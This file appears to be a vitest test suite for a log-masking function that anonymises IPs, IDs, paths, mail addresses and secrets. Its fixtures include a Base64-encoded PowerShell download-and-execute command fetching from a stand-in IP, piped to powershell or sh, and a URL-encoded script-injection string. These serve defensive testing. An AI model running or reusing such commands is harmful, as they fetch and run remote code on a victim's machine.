import fc from 'fast-check';
import { expect, test } from 'vitest';
import { maskText } from '../../../src/main/group/brief/mask-text.ts';

const base64 = (text: string, encoding: BufferEncoding = 'latin1') => Buffer.from(text, encoding).toString('base64');

test.each([
  [
    'addresses',
    'from 203.0.113.9 via 10.0.0.1, 192.168.7.7, 127.0.0.1 and 2001:db8::17',
    'from IP via LAN, LAN, LOCAL and IP',
  ],
  [
    'times of all kinds',
    '2025-03-15T02:14:01.003+01:00 up 15/Mar/2025:02:14:01 +0100 down 3/18/2025 9:00:04 AM',
    'up down',
  ],
  [
    'ids',
    '{3F2504E0-4F89-11D3-9A0C-0305E82C3301} S-1-5-21-36-33-30-1013 S-1-5-18 00:1A:2B:3C:4D:5E',
    'ID SID SYSTEM MAC',
  ],
  ['hashes and long numbers', 'd41d8cd98f00b204e9800998ecf8427e 0x7ffe0300 1742004841 12.5', 'HEX HEX #'],
  [
    'counts that tell something',
    'status 404 after 3 attempts, code 503, port 443',
    'status 404 after 3 attempts, code 503, port 443',
  ],
  [
    'registry values',
    'DWORD (0x00000000) DWORD (0x00000001) QWORD (0x01d8aa17ffe30001)',
    'dword 0 dword 1 qword (HEX)',
  ],
  ['mail', 'to a.b+c@mail.example.org', 'to MAIL'],
  [
    'user folders',
    'C:\\Users\\anna\\AppData\\Local\\Temp\\a.exe /home/anna/.ssh/id_rsa',
    '~\\temp\\a.exe ~/.ssh/id_rsa',
  ],
  ['system folders', 'C:\\Windows\\System32\\a.dll C:\\Program Files\\T\\t.exe', 'sys32\\a.dll pf\\t\\t.exe'],
  ['a usual browser', 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0', 'browser'],
  ['what is encoded for addresses', '%3Cscript%3Ealert(1)%3C/script%3E', '<script>alert(1)</script>'],
  ['line breaks and invisible characters', 'a\r\nb\u2028c\u0085d\u200be\u202ef', 'a b c d e f'],
  [
    'words as long as secrets',
    'the-quick-brown-fox-jumps-over-the-lazy-dog',
    'the-quick-brown-fox-jumps-over-the-lazy-dog',
  ],
  ['secrets', 'key AbCdEf0123456789AbCdEf0123456789xyz', 'key B64'],
])('%s', (_, text, masked) => {
  expect(maskText(text)).toBe(masked);
});

test('a PowerShell command in Base64 is shown in one line, as is plain text in Base64', () => {
  const command = "IEX (New-Object Net.WebClient)\r\n.DownloadString('http://203.0.113.9/a')";
  const shown = "B64 iex (new-object net.webclient) .downloadstring('http://IP/a')";
  expect(maskText(`powershell -enc ${base64(command, 'utf16le')}`)).toBe(`powershell -enc ${shown}`);
  expect(maskText(`echo ${base64(command)} | sh`)).toBe(`echo ${shown} | sh`);
  const bytes = Buffer.alloc(40, 0xe9).toString('base64');
  expect(maskText(`echo ${bytes} | sh`)).toBe('echo B64 | sh');
});

test('accounts are masked where they stand alone, not inside of words', () => {
  expect(maskText('user anna of annabell, anna.', ['Anna'])).toBe('user USER of annabell, USER.');
  expect(maskText('ab went', ['ab'])).toBe('ab went');
});

const placeholders = ['IP', 'LAN', 'LOCAL', 'ID', 'SID', 'SYSTEM', 'MAC', 'HEX', 'B64', 'MAIL', 'USER'];

test("a log's own capitals and control characters can't pass for a placeholder", () => {
  const written = [...placeholders, '\u0001\u0002\u0003\u0004\u0005\u0006'].join(' ');
  const real = '10.0.0.1 S-1-5-18 3F2504E0-4F89-11D3-9A0C-0305E82C3301';
  expect(maskText(`${written} ${real}`)).toBe(`${placeholders.join(' ').toLowerCase()} LAN SYSTEM ID`);
  expect(maskText('%01%02%03 SYSTEM')).not.toMatch(/[A-Z]/);
});

test('of a text without digits, percents, mails and long words no capital is left', () => {
  const word = fc.oneof(
    fc.constantFrom(...placeholders.filter((name) => name !== 'B64')),
    fc.string({ unit: 'grapheme', maxLength: 12 }),
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 8 }), (words) => {
      const text = words.join(' ').replaceAll(/[\d%@:]/g, '');
      expect(maskText(text)).toBe(maskText(text).toLowerCase());
    }),
  );
});

test('masking never throws, and gives one line no longer than what it reads', () => {
  const piece = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('%41', '%%1833', 'x@y.z', '://', '0x', '####', 'mozilla/5.0 ('),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), fc.array(fc.string(), { maxLength: 3 }), (pieces, accounts) => {
      const masked = maskText(pieces.join(''), accounts);
      expect(masked).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
    }),
  );
  expect(maskText('word '.repeat(1e6)).length).toBeLessThanOrEqual(3000);
});
